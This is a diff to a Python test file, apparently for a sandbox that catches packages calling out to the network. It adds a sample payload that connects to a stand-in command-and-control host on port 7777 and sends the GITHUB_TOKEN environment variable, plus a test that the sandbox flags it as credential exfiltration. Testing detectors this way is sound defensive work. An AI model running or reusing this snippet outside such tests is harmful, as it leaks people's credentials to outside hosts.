@@ -258,6 +258,18 @@ def act():
                 pass
 '''
 
+ODD_PORT = r'''
+def act():
+    # a port no sinkhole listens on, by name and by address, with a planted secret in it
+    for host in ("c2.odd.example.net", "203.0.113.77"):
+        try:
+            s = socket.create_connection((host, 7777), timeout=3)
+            s.sendall(("TOKEN " + os.environ.get("GITHUB_TOKEN", "") + "\\n").encode())
+            s.close()
+        except OSError:
+            pass
+'''
+
 DOTENV = r'''
 def act():
     # a .env in its own folder (dotenv's habit), then someone else's secret in HOME
@@ -743,6 +755,20 @@ def case_dns_fanout(h, nobody):
     h.res.check("example.org" not in found, f"{run.label}: one name looked up 60 times is not ({found})")
 
 
+def case_odd_port(h, nobody):
+    run = Run(h, "odd-port", ODD_PORT, {}, nobody)
+    run.go()
+    r = run.report or {}
+    for host in ("c2.odd.example.net", "203.0.113.77"):
+        evs = [ev for e in r.get("endpoints", []) if e.get("host") == host and e.get("port") == 7777
+               for ev in e["evidence"]]
+        h.res.check(any(ev.get("api") == "tcp" for ev in evs),
+                    f"{run.label}: {host} port 7777 is a connection the sinkhole took, not a bare SYN "
+                    f"({[ev.get('api') for ev in evs]})")
+        exfil = [f for f in r.get("findings", []) if f["rule_id"] == "credential-exfiltration" and f.get("host") == host]
+        h.res.check(bool(exfil), f"{run.label}: the canary sent to {host}:7777 is caught")
+
+
 def case_dotenv(h, nobody):
     run = Run(h, "dotenv", DOTENV, {}, nobody)
     run.go()
@@ -784,6 +810,7 @@ CASES = [
     ("daemon", case_daemon, False),
     ("dns-fanout", case_dns_fanout, False),
     ("dotenv", case_dotenv, False),
+    ("odd-port", case_odd_port, True),
 ]
 
 
